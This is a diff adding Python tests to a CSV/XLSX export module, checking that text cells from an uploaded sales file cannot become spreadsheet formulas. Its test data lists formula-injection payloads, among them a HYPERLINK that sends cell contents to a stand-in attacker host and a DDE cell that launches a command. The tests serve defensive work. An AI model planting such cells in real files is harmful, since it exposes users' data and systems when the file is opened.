@@ -120,3 +120,33 @@ def test_cells_are_typed_and_empty_values_stay_empty() -> None:
     lines = write_csv(table, "liq").read_text(encoding="utf-8-sig").splitlines()
     assert lines == ["Datum;Saldo", "01.12.2026;1234,50", "02.12.2026;"]
     assert write_docx("T", "Text", "t").suffix == ".docx"
+
+
+HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?d="&A1;"Klick")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
+
+
+def _names_table() -> Table:
+    """Text cells as an uploaded sales file may name its series (hostile test 13: formula injection)."""
+    rows = [{"name": n, "pieces": 3} for n in [*HOSTILE_CELLS, "Roggenbrot", "-"]]
+    return Table(
+        title="Reihen",
+        columns=[Column(key="name", header="Reihe"), Column(key="pieces", header="Stück", kind="int")],
+        rows=rows,
+    )
+
+
+def test_csv_text_cells_never_start_a_formula() -> None:
+    path = write_csv(_names_table(), "formeln")
+    with path.open(encoding="utf-8-sig") as fh:
+        cells = [row[0] for row in csv.reader(fh, delimiter=";")][1:]
+    assert cells[: len(HOSTILE_CELLS)] == [f"'{c}" for c in HOSTILE_CELLS]
+    assert cells[-2:] == ["Roggenbrot", "-"]  # ordinary names and a bare dash stay as they are
+
+
+def test_xlsx_text_cells_are_text_not_formulas() -> None:
+    path = write_xlsx([_names_table()], "formeln")
+    ws = load_workbook(path).active
+    cells = [ws.cell(row=r, column=1) for r in range(2, 2 + len(HOSTILE_CELLS))]
+    assert all(c.data_type == "s" for c in cells)
+    assert [c.value for c in cells] == [f"'{c}" for c in HOSTILE_CELLS]
+    assert ws.cell(row=2, column=2).value == 3
